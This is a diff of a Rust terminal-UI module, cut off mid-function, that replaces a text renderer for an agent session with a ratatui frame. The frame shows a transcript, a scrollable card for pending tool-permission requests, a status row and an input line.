@@ -1,489 +1,521 @@
-//! What a session looks like as text, sans-io: messages in, text out. Knows nothing of terminals but colours; lines end
-//! with LF.
+//! One frame of the terminal: what there is to read, the card of the request that waits, a status row, and the text that
+//! is typed. Says what of the card was drawn, which is what an answer is about.
 
-use std::collections::{HashMap, HashSet, VecDeque};
+use ratatui::{
+    Frame,
+    buffer::{Buffer, CellWidth},
+    layout::{Constraint, Layout, Position, Rect},
+    text::{Line, Span},
+    widgets::{Block, BorderType, Clear, Paragraph, Widget},
+};
+use unicode_segmentation::UnicodeSegmentation;
 
-use serde_json::Value;
-
-use super::style::Style;
+use super::{
+    cards::{Body, Cards, Waiting},
+    editor::{Editor, View},
+    theme::Theme,
+    transcript::Transcript,
+};
 use crate::{
-    cli::text::{clean, clean_line},
-    client::{Block, DeviceInfo, ErrorMessage, Event, Fact, Incoming, OpenPermission, Reply, Snapshot},
+    base::glyph::{self, visible},
+    cli::text::columns,
+    relay::card,
 };
 
-const ARGUMENT_CHARS: usize = 160;
-const WHY_CHARS: usize = 400;
-const PREVIEW_LINES: usize = 3;
-const PREVIEW_CHARS: usize = 200;
-/// Prompts that are remembered as settled, for answers that come after the events.
-const SETTLED_MAX: usize = 256;
-/// Before the first word of thinking, so that it is told from the answer without colours too.
-const THINKING: &str = "✻ ";
-/// Blocks that are streamed at the same time; more are shown when they are whole.
-const STREAMS_MAX: usize = 64;
+/// Rows of the typed text that are shown at most.
+const EDITOR_ROWS_MAX: usize = 8;
+/// Columns of a tool's name in a card's title at the most, and those that the rest of it takes.
+const NAME_COLUMNS_MAX: usize = 40;
+const TITLE_COLUMNS: usize = 36;
+/// A card on a narrower screen could not hold what is drawn as one.
+const CARD_COLUMNS_MIN: u16 = 16;
+/// Rows that stay for what there is to read beside a card.
+const TEXT_ROWS_MIN: u16 = 4;
+const SPINNER: [&str; 10] = ["⠋", "⠙", "⠹", "⠸", "⠼", "⠴", "⠦", "⠧", "⠇", "⠏"];
 
-/// One attached session, as it is shown.
+/// What the status row says.
+#[derive(Clone, Debug, Default)]
+pub(super) struct Status {
+    /// Something goes on: the spinner turns.
+    pub(super) turns: bool,
+    /// Which picture of the spinner.
+    pub(super) tick: usize,
+    /// The state and its seconds.
+    pub(super) state: String,
+    /// What Ctrl-C does now, and the like.
+    pub(super) keys: String,
+    /// Which session, and who else is here.
+    pub(super) place: String,
+    /// Something went wrong.
+    pub(super) alarm: bool,
+}
+
+/// What was drawn of a card.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) struct DrawnCard {
+    /// The number of what there is to see.
+    pub(super) number: u64,
+    /// All of it has been in view.
+    pub(super) to_the_end: bool,
+    /// Rows in view, and rows there are.
+    pub(super) rows: (usize, usize),
+}
+
+/// The screen, between frames.
+#[derive(Debug)]
 pub(super) struct Screen {
-    style: Style,
-    /// Our device's name: its own prompts are shown without one.
-    device: String,
-    state: String,
-    /// Whether our role may answer requests.
-    decides: bool,
-    /// Whether a row below the text asks for answers, so that the text need not.
-    row: bool,
-    model: Option<String>,
-    mode: Option<String>,
-    open: Vec<OpenPermission>,
-    /// Requests that we have answered.
-    decided: HashSet<String>,
-    /// Bytes shown of blocks that are not whole yet.
-    streams: HashMap<(String, u32), u64>,
-    streaming: Option<(String, u32)>,
-    devices: Vec<DeviceInfo>,
-    at_line_start: bool,
-    /// Our prompts that are not settled.
-    waiting: HashSet<String>,
-    settled: VecDeque<String>,
+    pub(super) transcript: Transcript,
+    theme: Theme,
+    /// The card that was drawn last, laid out.
+    card: Option<CardLayout>,
+    /// The part with what there is to read.
+    text: Rect,
 }
 
 impl Screen {
-    /// Nothing is shown yet. `role` as the relay granted it.
-    pub(super) fn new(style: Style, device: &str, role: &str) -> Self {
-        Self {
-            style,
-            device: device.to_owned(),
-            state: "starting".into(),
-            decides: !matches!(role, "agent" | "watch" | "drive"),
-            row: false,
-            model: None,
-            mode: None,
-            open: Vec::new(),
-            decided: HashSet::new(),
-            streams: HashMap::new(),
-            streaming: None,
-            devices: Vec::new(),
-            at_line_start: true,
-            waiting: HashSet::new(),
-            settled: VecDeque::new(),
+    pub(super) fn new(theme: Theme) -> Self {
+        Self { transcript: Transcript::new(theme), theme, card: None, text: Rect::default() }
+    }
+
+    /// Draws a frame.
+    pub(super) fn draw(
+        &mut self,
+        frame: &mut Frame<'_>,
+        cards: &Cards,
+        editor: &Editor,
+        status: &Status,
+    ) -> Option<DrawnCard> {
+        let area = frame.area();
+        let inner = area.width.saturating_sub(2);
+        let editor_rows = editor.rows(inner).min(EDITOR_ROWS_MAX).min(usize::from(area.height / 3).max(1)) as u16;
+        let free = area.height.saturating_sub(editor_rows + 1);
+        let card_rows = self.lay_out(cards, inner.saturating_sub(2)).map_or(0, |rows| {
+            let most = free.saturating_sub(TEXT_ROWS_MIN).max(free.min(5));
+            u16::try_from(rows + 2).unwrap_or(u16::MAX).min(most)
+        });
+        let rows =
+            [Constraint::Min(0), Constraint::Length(card_rows), Constraint::Length(1), Constraint::Length(editor_rows)];
+        let [text, card, status_row, editor_area] = Layout::vertical(rows).areas(area);
+        self.text = text;
+        self.transcript.draw(text, frame.buffer_mut());
+        if !self.transcript.at_end() {
+            more_below(frame, text, self.theme);
         }
-    }
-
-    /// A row below the text asks for answers.
-    pub(super) fn has_row(&mut self) {
-        self.row = true;
-    }
-
-    /// The request that `y` and `n` answer: the oldest that is open and not answered by us.
-    pub(super) fn asks(&self) -> Option<&OpenPermission> {
-        self.open.iter().find(|open| self.decides && !self.decided.contains(&open.request))
-    }
-
-    /// We send an answer to this request.
-    pub(super) fn deciding(&mut self, request: &str) {
-        self.decided.insert(request.to_owned());
-    }
-
-    /// Our answer was not taken: the request may be answered again.
-    pub(super) fn not_decided(&mut self, request: &str) {
-        self.decided.remove(request);
-    }
-
-    /// A turn runs, or is about to.
-    pub(super) fn is_busy(&self) -> bool {
-        matches!(self.state.as_str(), "busy" | "waiting" | "retrying" | "stuck")
-    }
-
-    /// The session is over.
-    pub(super) fn is_over(&self) -> bool {
-        matches!(self.state.as_str(), "stopped" | "failed")
-    }
-
-    /// Our own prompts are not all settled, or a turn runs.
-    pub(super) fn is_working(&self) -> bool {
-        !self.is_over() && (self.is_busy() || !self.waiting.is_empty())
-    }
-
-    /// A whole line, beginning at the start of one.
-    pub(super) fn line(&mut self, text: &str) -> String {
-        let mut shown = self.fresh_line();
-        shown.push_str(text);
-        shown.push('\n');
-        shown
-    }
-
-    fn fresh_line(&mut self) -> String {
-        self.streaming = None;
-        let started = std::mem::replace(&mut self.at_line_start, true);
-        if started { String::new() } else { "\n".into() }
-    }
-
-    /// The reply to `attach`: what came before, then what is.
-    pub(super) fn attached(&mut self, fields: &Value) -> String {
-        let snapshot: Snapshot =
-            fields.get("snapshot").and_then(|value| serde::Deserialize::deserialize(value).ok()).unwrap_or_default();
-        let mut shown = self.fresh_line();
-        self.open.clear();
-        self.streams.clear();
-        let mut head = format!("{} · {}", clean_line(&snapshot.title, 60), clean_line(&snapshot.folder, 80));
-        if let Some(model) = &snapshot.model {
-            head.push_str(&format!(" · {}", clean_line(model, 40)));
+        let drawn = self.draw_card(frame, card, cards);
+        draw_status(frame, status_row, status, self.theme);
+        let mark = if drawn.is_some() && cards.decides() { "? " } else { "> " };
+        if !editor_area.is_empty() {
+            frame.buffer_mut().set_string(editor_area.x, editor_area.y, mark, self.theme.bold());
         }
-        // What the head says, or what is usual, the events need not say again.
-        self.model = snapshot.model.clone();
-        self.mode = snapshot.mode.clone().or_else(|| Some("default".into()));
-        shown.push_str(&self.line(&self.style.dim(head.trim_matches([' ', '·']))));
-        let events = fields.get("events").and_then(Value::as_array).into_iter().flatten();
-        let events: Vec<Event> = events.filter_map(|event| serde::Deserialize::deserialize(event).ok()).collect();
-        let among = |notice: &str| {
-            events.iter().any(|event| matches!(&event.fact, Fact::Notice { text, .. } if text == notice))
+        let typed = Rect { x: editor_area.x + 2, width: editor_area.width.saturating_sub(2), ..editor_area };
+        frame.render_widget(editor.area(), typed);
+        cursor(frame, editor, typed);
+        part(frame.buffer_mut());
+        drawn
+    }
+
+    /// Lays out the card that is to be shown, unless that is done. Gives its rows.
+    fn lay_out(&mut self, cards: &Cards, width: u16) -> Option<usize> {
+        let Some(waiting) = cards.shown() else {
+            self.card = None;
+            return None;
         };
-        if let Some(notice) = snapshot.notice.as_ref().filter(|notice| !among(notice)) {
-            shown.push_str(&self.line(&self.style.warn(&clean(notice))));
-        }
-        for event in &events {
-            shown.push_str(&self.event(event));
-        }
-        // The snapshot is right about what is open now, whatever the tail held.
-        self.open.clear();
-        self.state = snapshot.state.clone();
-        self.devices = snapshot.devices.clone();
-        shown.push_str(&self.streamed(snapshot.turn.as_ref().map_or(&[], |turn| &turn.blocks)));
-        for open in snapshot.permissions {
-            shown.push_str(&self.permission(open));
-        }
-        let others = self.others();
-        if !others.is_empty() {
-            shown.push_str(&self.line(&self.style.dim(&format!("also here: {others}"))));
-        }
-        if self.is_over() {
-            let why = snapshot.why.as_deref().map_or(String::new(), |why| format!(": {}", clean_line(why, WHY_CHARS)));
-            shown.push_str(
-                &self.line(&self.style.warn(&format!("the session is {}{why}", clean_line(&self.state, 16)))),
-            );
-        }
-        shown
-    }
-
-    /// Blocks that are not whole yet, as far as they were streamed: what is not shown yet of them.
-    pub(super) fn streamed(&mut self, blocks: &[Block]) -> String {
-        let piece =
-            |block: &Block| self.delta(&block.message, block.block, 0, &block.text, block.block_kind.as_deref());
-        blocks.iter().map(piece).collect()
-    }
-
-    fn others(&self) -> String {
-        let names = self.devices.iter().map(|device| clean_line(&device.name, 40));
-        names.filter(|name| *name != self.device).collect::<Vec<_>>().join(", ")
-    }
-
-    /// One message.
-    pub(super) fn incoming(&mut self, incoming: &Incoming) -> String {
-        match incoming {
-            Incoming::Event(event) => self.event(event),
-            Incoming::Delta { message, block, at, text, kind, .. } => {
-                self.delta(message, *block, *at, text, kind.as_deref())
+        let (number, progress, answers) = (waiting.number, waiting.progress(), cards.answers());
+        let is_it = |card: &CardLayout| (card.number, card.progress, card.width) == (number, progress, width);
+        match &mut self.card {
+            Some(card) if is_it(card) && card.answers == answers => {}
+            known => {
+                let top = known.as_ref().filter(|card| card.number == number).map_or(0, |card| card.top);
+                *known = Some(CardLayout::new(waiting, answers, width, top, self.theme));
             }
-            Incoming::Presence { devices, .. } => self.presence(devices),
-            Incoming::Error(error) => self.error(error),
-            Incoming::Reply(reply) => {
-                self.reply(reply);
-                String::new()
+        }
+        self.card.as_ref().map(CardLayout::rows)
+    }
+
+    /// Moves a view. True: what there is to read stood at its very beginning, and was to be moved up.
+    pub(super) fn scroll(&mut self, view: View, card: Option<&DrawnCard>) -> bool {
+        let page = |height: usize| height.saturating_sub(1).max(1) as isize;
+        let long = card.filter(|card| card.rows.1 > card.rows.0);
+        match (view, long, &mut self.card) {
+            (View::PageUp, Some(drawn), Some(card)) => card.scroll(-page(drawn.rows.0), drawn.rows.0),
+            // Keys that come faster than frames pass over nothing.
+            (View::PageDown, Some(drawn), Some(card)) if card.top > card.drawn_top => card.scroll(0, drawn.rows.0),
+            (View::PageDown, Some(drawn), Some(card)) => card.scroll(page(drawn.rows.0), drawn.rows.0),
+            (View::End, Some(drawn), Some(card)) => card.scroll(isize::MAX, drawn.rows.0),
+            (View::PageUp | View::TextUp, ..) => {
+                return self.transcript.scroll(-page(self.text.height.into()), self.text);
             }
-            Incoming::Session { .. }
-            | Incoming::CaughtUp { .. }
-            | Incoming::Reset { .. }
-            | Incoming::Pong { .. }
-            | Incoming::Unknown => String::new(),
+            (View::PageDown | View::TextDown, ..) => {
+                self.transcript.scroll(page(self.text.height.into()), self.text);
+            }
+            (View::End, ..) => self.transcript.show_end(),
         }
+        false
     }
 
-    fn reply(&mut self, reply: &Reply) {
-        if let Some(prompt) = reply.field::<String>("prompt")
-            && !self.settled.contains(&prompt)
-        {
-            self.waiting.insert(prompt);
+    fn draw_card(&mut self, frame: &mut Frame<'_>, area: Rect, cards: &Cards) -> Option<DrawnCard> {
+        let (waiting, layout) = (cards.shown()?, self.card.as_mut()?);
+        if area.height < 3 || area.width < CARD_COLUMNS_MIN {
+            return None;
         }
-    }
-
-    fn settle(&mut self, prompt: &str) {
-        self.waiting.remove(prompt);
-        if self.settled.len() == SETTLED_MAX {
-            self.settled.pop_front();
-        }
-        self.settled.push_back(prompt.to_owned());
-    }
-
-    fn error(&mut self, error: &ErrorMessage) -> String {
-        let text = self.error_text(error);
-        self.line(&text)
-    }
-
-    /// What a refusal says, without a line's end.
-    pub(super) fn error_text(&self, error: &ErrorMessage) -> String {
-        let details = error.details.as_ref();
-        if error.code == "ALREADY_DECIDED" {
-            let decision = details.and_then(|details| details["decision"].as_str()).unwrap_or("decided");
-            let by = details.and_then(|details| details["by"]["device"].as_str());
-            let text = match by {
-                Some(by) => format!("already {} by {}", past(decision), clean_line(by, 40)),
-                None => format!("already {}", past(decision)),
-            };
-            return self.style.warn(&text);
-        }
-        self.style.bad(&format!("! {} ({})", clean_line(&error.message, 300), clean_line(&error.code, 40)))
-    }
-
-    fn presence(&mut self, devices: &[DeviceInfo]) -> String {
-        let is_in = |list: &[DeviceInfo], device: &DeviceInfo| list.iter().any(|other| other.device == device.device);
-        let changes = |from: &[DeviceInfo], to: &[DeviceInfo], what: &str| -> Vec<String> {
-            let new = to.iter().filter(|device| !is_in(from, device) && device.name != self.device);
-            new.map(|device| format!("{} {what}", clean_line(&device.name, 40))).collect()
+        let (place, all) = cards.place();
+        let what = if cards.question().is_some() { "asks" } else { "asks for permission" };
+        let tool = visible(&waiting.open.tool);
+        let room = title_room(usize::from(area.width));
+        let begins = cut(&tool, room, room)[0];
+        let more = if begins.len() < tool.len() { "…" } else { "" };
+        let title = format!(" {place} of {all}: {begins}{more} {what} ");
+        let (rows, height) = (layout.rows(), usize::from(area.height - 2));
+        let top = layout.top.min(rows.saturating_sub(height));
+        let unseen = layout.in_view(top, height).filter(|_| !cards.seen());
+        let page = unseen.map(|row| if row < top { "PgUp" } else { "PgDn" });
+        let part =
+            if rows > height { format!("rows {}-{} of {rows} · ", top + 1, top + height) } else { String::new() };
+        let keys = match page {
+            Some(page) => format!(" {page}: what you have not seen · {part}n: deny · n REASON "),
+            None => format!(" {part}{} ", cards.hint()),
         };
-        let mut changed = changes(&self.devices, devices, "joined");
-        changed.extend(changes(devices, &self.devices, "left"));
-        self.devices = devices.to_vec();
-        // Who comes and goes does not break into a line that is being streamed.
-        if changed.is_empty() || !self.at_line_start {
-            return String::new();
-        }
-        self.line(&self.style.dim(&changed.join(", ")))
+        let block = Block::bordered()
+            .border_type(BorderType::Rounded)
+            .border_style(self.theme.warn())
+            .title_top(Line::styled(title, self.theme.warn().patch(self.theme.bold())))
+            .title_bottom(Line::styled(keys, self.theme.bold()));
+        let inner = block.inner(area);
+        let inner = Rect { x: inner.x + 1, width: inner.width - 2, ..inner };
+        Clear.render(area, frame.buffer_mut());
+        block.render(area, frame.buffer_mut());
+        layout.draw(inner, top, frame.buffer_mut());
+        Some(DrawnCard { number: waiting.number, to_the_end: unseen.is_none(), rows: (height, rows) })
+    }
+}
+
+/// A card as rows of some width.
+#[derive(Debug)]
+struct CardLayout {
+    number: u64,
+    /// How much of its input had come.
+    progress: usize,
+    /// The answers so far to its questions.
+    answers: Vec<String>,
+    width: u16,
+    rows: Vec<Line<'static>>,
+    /// The first row in view, and that of the last frame.
+    top: usize,
+    drawn_top: usize,
+    /// Which rows have been in view.
+    seen: Vec<bool>,
+}
+
+impl CardLayout {
+    fn new(waiting: &Waiting, answers: Vec<String>, width: u16, top: usize, theme: Theme) -> Self {
+        let rows = rows(waiting, &answers, usize::from(width), theme);
+        let seen = vec![false; rows.len()];
+        let (number, progress) = (waiting.number, waiting.progress());
+        Self { number, progress, answers, width, rows, top, drawn_top: top, seen }
     }
 
-    fn delta(&mut self, message: &str, block: u32, at: u64, text: &str, kind: Option<&str>) -> String {
-        let key = (message.to_owned(), block);
-        if !self.streams.contains_key(&key) && self.streams.len() >= STREAMS_MAX {
-            return String::new();
-        }
-        let have = *self.streams.get(&key).unwrap_or(&0);
-        // A piece was skipped: the whole block comes as an event, and the rest is shown then.
-        let Some(new) = have.checked_sub(at).and_then(|known| text.get(usize::try_from(known).ok()?..)) else {
-            return String::new();
-        };
-        if new.is_empty() {
-            return String::new();
-        }
-        let mut shown = if self.streaming.as_ref() == Some(&key) { String::new() } else { self.fresh_line() };
-        self.streams.insert(key.clone(), have + new.len() as u64);
-        self.streaming = Some(key);
-        let thinking = kind == Some("thinking");
-        shown.push_str(&self.running(if thinking && have == 0 { THINKING } else { "" }, thinking));
-        shown.push_str(&self.running(new, thinking));
-        shown
+    /// Rows come into view. Gives the first that has not been.
+    fn in_view(&mut self, top: usize, height: usize) -> Option<usize> {
+        self.drawn_top = top;
+        self.seen.iter_mut().skip(top).take(height).for_each(|seen| *seen = true);
+        self.seen.iter().position(|seen| !seen)
     }
 
-    /// Text that goes on where the last one ended.
-    fn running(&mut self, text: &str, dim: bool) -> String {
-        let text = clean(text);
-        if let Some(last) = text.chars().last() {
-            self.at_line_start = last == '\n';
-        }
-        if dim { self.style.dim(&text) } else { text }
+    fn rows(&self) -> usize {
+        self.rows.len()
     }
 
-    fn whole(&mut self, block: &Block, thinking: bool) -> String {
-        let key = (block.message.clone(), block.block);
-        let streamed = self.streams.remove(&key);
-        if block.parent.is_some() && streamed.is_none() {
-            return String::new();
-        }
-        let have = streamed.unwrap_or(0);
-        let rest = usize::try_from(have).ok().and_then(|have| block.text.get(have..)).unwrap_or(&block.text);
-        if rest.trim().is_empty() && have == 0 {
-            return String::new();
-        }
-        let mut shown = if self.streaming.as_ref() == Some(&key) { String::new() } else { self.fresh_line() };
-        shown.push_str(&self.running(if thinking && have == 0 { THINKING } else { "" }, thinking));
-        shown.push_str(&self.running(rest, thinking));
-        shown.push_str(&self.fresh_line());
-        shown
+    fn scroll(&mut self, by: isize, height: usize) {
+        let most = self.rows().saturating_sub(height);
+        self.top = self.top.min(most).saturating_add_signed(by).min(most);
     }
 
-    fn event(&mut self, event: &Event) -> String {
-        let by = event.by.as_ref().map(|by| clean_line(&by.device, 40)).unwrap_or_default();
-        match &event.fact {
-            Fact::Prompt { text, .. } => {
-                let who = if by.is_empty() || by == self.device { String::new() } else { format!("{by} ") };
-                self.line(&self.style.bold(&format!("{who}> {}", clean(text))))
-            }
-            Fact::PromptState { prompt, state, why } => self.prompt_state(prompt, state, why.as_deref()),
-            Fact::Text(block) => self.whole(block, false),
-            Fact::Thinking(block) => self.whole(block, true),
-            Fact::ToolCall { tool, input, parent, .. } => {
-                let indent = if parent.is_some() { "  " } else { "" };
-                let call = format!("{}({})", clean_line(tool, 60), argument(input));
-                self.line(&format!("{indent}{} {call}", self.style.good("●")))
-            }
-            Fact::ToolResult { outcome, preview, .. } => self.result(outcome, preview),
-            Fact::Permission(open) => self.permission(open.clone()),
-            Fact::Decision { request, decision, how } => self.decision(request, decision, how, &by),
-            Fact::PermissionClosed { request, how } => self.closed(request, how),
-            Fact::State { state, why } => self.state(state, why.as_deref()),
-            Fact::Turn { prompts, ok, stop, cost_usd, duration_ms } => {
-                for prompt in prompts {
-                    self.settle(prompt);
-                }
-                self.streams.clear();
-                let seconds = *duration_ms as f64 / 1000.0;
-                let text = match ok {
-                    true => self.style.dim(&format!("── done in {seconds:.1} s · ${cost_usd:.4}")),
-                    false if stop.starts_with("aborted") => {
-                        self.style.warn(&format!("── interrupted after {seconds:.1} s"))
+    fn draw(&self, area: Rect, top: usize, buffer: &mut Buffer) {
+        for (row, y) in self.rows.iter().skip(top).zip(area.y..area.bottom()) {
+            buffer.set_line(area.x, y, row, area.width);
+        }
+    }
+}
+
+/// Gives every character that takes columns a cell of its own: what is drawn apart is replaced and erased apart.
+fn part(buffer: &mut Buffer) {
+    let area = buffer.area;
+    for y in area.top()..area.bottom() {
+        let mut x = area.left();
+        while x < area.right() {
+            let cell = &buffer[(x, y)];
+            let columns = cell.cell_width().max(1);
+            if !cell.symbol().is_ascii() {
+                let whole = cell.clone();
+                let mut at = x;
+                for (symbol, width) in glyph::cells(whole.symbol(), columns.into()) {
+                    if let Some(cell) = buffer.cell_mut((at, y)) {
+                        cell.clone_from(&whole);
+                        cell.set_symbol(&symbol);
                     }
-                    false => self.style.warn(&format!("── ended after {seconds:.1} s: {}", clean_line(stop, 80))),
-                };
-                self.line(&text)
+                    at += width as u16;
+                }
             }
-            Fact::Settings { title, model, mode } => {
-                let new = |old: &mut Option<String>, new: &Option<String>| {
-                    new.clone().filter(|new| old.replace(new.clone()).as_ref() != Some(new))
-                };
-                let named = [
-                    ("title", title.clone()),
-                    ("model", new(&mut self.model, model)),
-                    ("mode", new(&mut self.mode, mode)),
-                ];
-                let changed: Vec<String> = named
-                    .iter()
-                    .filter_map(|(name, value)| {
-                        value.as_ref().map(|value| format!("{name}: {}", clean_line(value, 60)))
-                    })
-                    .collect();
-                if changed.is_empty() { String::new() } else { self.line(&self.style.dim(&changed.join(" · "))) }
-            }
-            Fact::Retry { attempt, of, delay_ms, error } => {
-                let text =
-                    format!("retrying ({attempt}/{of}) in {} s: {}", delay_ms.div_ceil(1000), clean_line(error, 160));
-                self.line(&self.style.warn(&text))
-            }
-            Fact::Notice { level, text } => {
-                let text = clean(text);
-                let text = if level == "info" { self.style.dim(&text) } else { self.style.warn(&format!("! {text}")) };
-                self.line(&text)
-            }
-            Fact::Unknown => String::new(),
+            x += columns;
         }
-    }
-
-    fn prompt_state(&mut self, prompt: &str, state: &str, why: Option<&str>) -> String {
-        if !matches!(state, "done" | "cancelled" | "failed") {
-            return String::new();
-        }
-        // The end of its turn has said it already.
-        let said = state == "cancelled" && self.settled.iter().any(|settled| settled == prompt);
-        self.settle(prompt);
-        if said {
-            return String::new();
-        }
-        let why = why.map(|why| format!(": {}", clean_line(why, WHY_CHARS))).unwrap_or_default();
-        match state {
-            "cancelled" => self.line(&self.style.dim(&format!("prompt cancelled{why}"))),
-            "failed" => self.line(&self.style.bad(&format!("prompt failed{why}"))),
-            _ => String::new(),
-        }
-    }
-
-    fn result(&mut self, outcome: &str, preview: &str) -> String {
-        let mut shown = String::new();
-        let preview = clean(preview);
-        let lines: Vec<&str> = preview.lines().filter(|line| !line.trim().is_empty()).collect();
-        let mark = match outcome {
-            "ok" => String::new(),
-            "error" => "error: ".into(),
-            other => format!("{}: ", clean_line(other, 20)),
-        };
-        for (at, line) in lines.iter().take(PREVIEW_LINES).enumerate() {
-            let lead = if at == 0 { format!("  ⎿ {mark}") } else { "    ".to_owned() };
-            let text = format!("{lead}{}", clean_line(line, PREVIEW_CHARS));
-            shown.push_str(&self.line(&if mark.is_empty() { self.style.dim(&text) } else { self.style.bad(&text) }));
-        }
-        match lines.len() {
-            0 => shown.push_str(&self.line(&self.style.dim(&format!("  ⎿ {mark}(no output)")))),
-            more if more > PREVIEW_LINES => {
-                shown.push_str(&self.line(&self.style.dim(&format!("    … {} more lines", more - PREVIEW_LINES))));
-            }
-            _ => {}
-        }
-        shown
-    }
-
-    fn permission(&mut self, open: OpenPermission) -> String {
-        let call = format!("? {} wants to run: {}", clean_line(&open.tool, 60), argument(&open.input));
-        let mut shown = self.line(&self.style.warn(&call));
-        if !open.about.is_empty() {
-            shown.push_str(&self.line(&format!("  {}", clean_line(&open.about, 200))));
-        }
-        for question in open.questions.iter().filter_map(Value::as_array).flatten() {
-            let text = question["question"].as_str().unwrap_or_default();
-            shown.push_str(&self.line(&format!("  {}", clean_line(text, 200))));
-        }
-        match (self.decides, self.row) {
-            (true, true) => {}
-            (true, false) => shown.push_str(&self.line(&self.style.bold("  allow? [y/n]"))),
-            (false, _) => shown.push_str(&self.line(&self.style.bold("  (your role does not decide this)"))),
-        }
-        self.open.retain(|known| known.request != open.request);
-        self.open.push(open);
-        shown
-    }
-
-    fn decision(&mut self, request: &str, decision: &str, how: &str, by: &str) -> String {
-        self.open.retain(|open| open.request != request);
-        let who = match how {
-            "rule" => " by a rule".to_owned(),
-            "timeout" => ": nobody answered".to_owned(),
-            _ if self.decided.remove(request) && by == self.device => String::new(),
-            _ if by.is_empty() => String::new(),
-            _ => format!(" by {by}"),
-        };
-        let text = format!("  {}{who}", past(decision));
-        self.line(&if decision == "allow" { self.style.good(&text) } else { self.style.bad(&text) })
-    }
-
-    fn closed(&mut self, request: &str, how: &str) -> String {
-        let before = self.open.len();
-        self.open.retain(|open| open.request != request);
-        self.decided.remove(request);
-        if self.open.len() == before {
-            return String::new();
-        }
-        let text = if how == "void" { "  the process that asked is gone" } else { "  no answer is needed any more" };
-        self.line(&self.style.dim(text))
-    }
-
-    fn state(&mut self, state: &str, why: Option<&str>) -> String {
-        self.state = state.to_owned();
-        if !matches!(state, "retrying" | "stuck" | "stopped" | "failed") {
-            return String::new();
-        }
-        if self.is_over() {
-            self.open.clear();
-        }
-        let why = why.map(|why| format!(": {}", clean_line(why, WHY_CHARS))).unwrap_or_default();
-        self.line(&self.style.warn(&format!("the session is {state}{why}")))
     }
 }
 
-fn past(decision: &str) -> &'static str {
-    match decision {
-        "allow" => "allowed",
-        "deny" => "denied",
-        _ => "closed",
+/// The terminal's own cursor stands where the text goes on, for screen readers and input methods.
+fn cursor(frame: &mut Frame<'_>, editor: &Editor, area: Rect) {
+    let at = editor.area().screen_cursor();
+    let (top, left) = editor.area().scroll_offset();
+    let x = area.x.saturating_add((at.col as u16).saturating_sub(left));
+    let y = area.y.saturating_add((at.row as u16).saturating_sub(top));
+    if area.contains(Position { x, y }) {
+        frame.set_cursor_position(Position { x, y });
     }
 }
 
-/// A tool's input in a line: the field that says most, else all of it.
-fn argument(input: &Value) -> String {
-    let telling = ["command", "file_path", "notebook_path", "path", "pattern", "url", "query", "prompt", "description"];
-    let found = telling.iter().find_map(|name| input.get(name).and_then(Value::as_str));
-    match (found, input) {
-        (Some(text), _) => clean_line(text, ARGUMENT_CHARS),
-        (None, Value::Null) => String::new(),
-        (None, Value::Object(fields)) if fields.is_empty() => String::new(),
-        (None, other) => clean_line(&other.to_string(), ARGUMENT_CHARS),
+fn more_below(frame: &mut Frame<'_>, area: Rect, theme: Theme) {
+    let text = " ↓ more below: PgDn, End ";
+    let width = columns(text) as u16;
+    if area.height > 0 && area.width > width {
+        let place = Rect { x: area.right() - width, y: area.bottom() - 1, width, height: 1 };
+        Clear.render(place, frame.buffer_mut());
+        frame.buffer_mut().set_string(place.x, place.y, text, theme.warn());
+    }
+}
+
+/// Columns for a tool's name in the title of a card of this width.
+fn title_room(width: usize) -> usize {
+    NAME_COLUMNS_MAX.min(width.saturating_sub(TITLE_COLUMNS)).max(1)
+}
+
+/// The card's rows. Each answer that was given stands before the next question.
+fn rows(waiting: &Waiting, answers: &[String], width: usize, theme: Theme) -> Vec<Line<'static>> {
+    match &waiting.body {
+        Body::Whole { card, .. } => {
+            // The title has room for the beginning of a long name.
+            let is_long = columns(&card.tool) > title_room(width + 4);
+            let tool = is_long.then(|| card::Line::field("tool", &waiting.open.tool));
+            let mut answers = answers.iter().map(|answer| card::Line::remark(&format!("you answered: {answer}")));
+            let mut asked = false;
+            let mut rows = Vec::new();
+            for line in tool.iter().chain(&card.lines) {
+                if line.kind == card::Kind::Question
+                    && std::mem::replace(&mut asked, true)
+                    && let Some(answer) = answers.next()
+                {
+                    rows.extend(card_rows(&answer, width, theme));
+                }
+                rows.extend(card_rows(line, width, theme));
+            }
+            rows
+        }
+        Body::Fetching { blob, data } => {
+            vec![Line::styled(format!("fetching its input: {} of {} bytes", data.len(), blob.bytes), theme.dim())]
+        }
+        Body::Missing(why) => {
+            let why = visible(why);
+            cut(&why, width, width).into_iter().map(|row| Line::styled(row.to_owned(), theme.bad())).collect()
+        }
+    }
+}
+
+/// One line of a card as rows, cut between characters and not between words, so that every blank is there. A mark of the
+/// line's kind stands before its first row, one of its own before the others.
+fn card_rows(line: &card::Line, width: usize, theme: Theme) -> Vec<Line<'static>> {
+    let room = width.saturating_sub(2);
+    let style = theme.card(line.kind);
+    let mut rows: Vec<Line<'static>> = Vec::new();
+    // A name may be longer than a row.
+    let name = if line.name.is_empty() { String::new() } else { format!("{} ", line.name) };
+    let mut names = cut(&name, room, room);
+    let last = names.pop().unwrap_or_default();
+    let mark = |at: usize| Span::styled(if at == 0 { line.kind.mark() } else { card::GOES_ON }, theme.dim());
+    for name in names {
+        rows.push(Line::from(vec![mark(rows.len()), Span::styled(name.to_owned(), theme.dim())]));
+    }
+    let first = room.saturating_sub(columns(last));
+    for (at, text) in cut(&line.text, first, room).into_iter().enumerate() {
+        let name = Span::styled(if at == 0 { last.to_owned() } else { String::new() }, theme.dim());
+        rows.push(Line::from(vec![mark(rows.len()), name, Span::styled(text.to_owned(), style)]));
+    }
+    rows
+}
+
+/// A text in pieces that fit into so many columns: the first one, and the others. At least one piece.
+fn cut(text: &str, first: usize, others: usize) -> Vec<&str> {
+    let mut pieces = Vec::new();
+    let (mut start, mut used) = (0, 0);
+    for (at, cluster) in text.grapheme_indices(true) {
+        let width = columns(cluster);
+        let room = if pieces.is_empty() { first } else { others };
+        if used + width > room && (used > 0 || pieces.is_empty() && first < others) {
+            pieces.push(&text[start..at]);
+            (start, used) = (at, 0);
+        }
+        used += width;
+    }
+    pieces.push(&text[start..]);
+    pieces
+}
+
+fn draw_status(frame: &mut Frame<'_>, area: Rect, status: &Status, theme: Theme) {
+    let spinner = if status.turns { SPINNER[status.tick % SPINNER.len()] } else { " " };
+    let state = if status.alarm { theme.bad() } else { theme.bold() };
+    let left = Line::from(vec![
+        Span::styled(format!("{spinner} "), theme.good()),
+        Span::styled(status.state.clone(), state),
+        Span::styled(format!(" · {}", status.keys), theme.dim()),
+    ]);
+    let width = left.width() as u16;
